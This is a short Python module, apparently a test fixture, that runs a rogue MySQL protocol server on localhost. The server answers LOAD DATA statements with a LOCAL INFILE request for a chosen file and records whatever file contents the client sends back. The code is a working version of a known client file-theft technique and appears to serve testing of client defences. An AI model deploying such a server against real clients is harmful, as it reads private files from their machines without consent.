"""A server of MySQL's protocol that asks for a file where it should say how a statement ended."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

CAPABILITIES = 0x00000001 | 0x00000008 | 0x00000080 | 0x00000200 | 0x00008000 | 0x00080000
OK = b"\x00\x00\x00\x02\x00\x00\x00"


@dataclass
class RogueServer:
    """Answers every statement well, and LOAD DATA with a request for a file, again and again."""

    file: str
    port: int = 0
    received: list[bytes] = field(default_factory=list)
    """What was sent as files."""

    def serve(self, listener: socket.socket) -> None:
        with suppress(OSError):
            while True:
                connection, _ = listener.accept()
                with connection, suppress(OSError, EOFError):
                    self.talk(connection)

    def talk(self, connection: socket.socket) -> None:
        low, high = CAPABILITIES & 0xFFFF, CAPABILITIES >> 16
        greeting = b"\x0a5.7.0\0" + struct.pack("<I", 1) + b"a" * 8 + b"\0" + struct.pack("<HBHHB", low, 33, 2, high, 21)
        send(connection, 0, greeting + b"\0" * 10 + b"b" * 12 + b"\0" + b"mysql_native_password\0")
        number, _ = receive(connection)
        send(connection, number + 1, OK)
        while True:
            number, command = receive(connection)
            if command[:1] == b"\x01":
                return
            if b"LOAD DATA" in command:
                for _ in range(2):
                    number = self.ask(connection, number)
            send(connection, number + 1, OK)

    def ask(self, connection: socket.socket, number: int) -> int:
        send(connection, number + 1, b"\xfb" + self.file.encode())
        while True:
            number, block = receive(connection)
            if not block:
                return number
            self.received.append(block)


def send(connection: socket.socket, number: int, payload: bytes) -> None:
    connection.sendall(struct.pack("<I", len(payload))[:3] + bytes([number % 256]) + payload)


def receive(connection: socket.socket) -> tuple[int, bytes]:
    head = read(connection, 4)
    return head[3], read(connection, int.from_bytes(head[:3], "little"))


def read(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        part = connection.recv(size - len(data))
        if not part:
            raise EOFError
        data += part
    return data


@contextmanager
def rogue_server(file: str) -> Iterator[RogueServer]:
    server = RogueServer(file)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server.port = listener.getsockname()[1]
        thread = threading.Thread(target=server.serve, args=[listener])
        thread.start()
        try:
            yield server
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join()
